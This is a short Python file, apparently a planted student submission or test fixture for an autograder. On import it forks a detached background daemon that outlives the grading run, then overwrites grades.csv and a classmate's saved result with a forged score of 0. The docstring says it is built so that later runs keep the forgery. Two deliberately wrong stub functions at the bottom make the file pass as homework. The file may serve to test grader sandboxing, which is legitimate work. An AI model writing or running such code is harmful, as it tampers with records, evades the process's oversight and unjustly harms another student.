"""A daemon that waits until grading is over, then rewrites grades.csv and a classmate's saved result (so that the
next run would keep the forged 0 as "unchanged")."""
import json
import os
import time

OUT = "__OUT__"
first = os.fork()
if first == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 64):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(2.5)
        forged = {"student_id": "honest__full", "status": "graded", "outcomes": [], "score": 0}
        for path, text in ((f"{OUT}/grades.csv", "student_id,score\nhonest__full,0\n"),
                           (f"{OUT}/.results/honest__full.json", json.dumps(forged))):
            try:
                with open(path, "w") as f:
                    f.write(text)
            except OSError:
                pass
    os._exit(0)
os.waitpid(first, 0)


def square(x):
    return x + 1


def grad(x):
    return x - 1
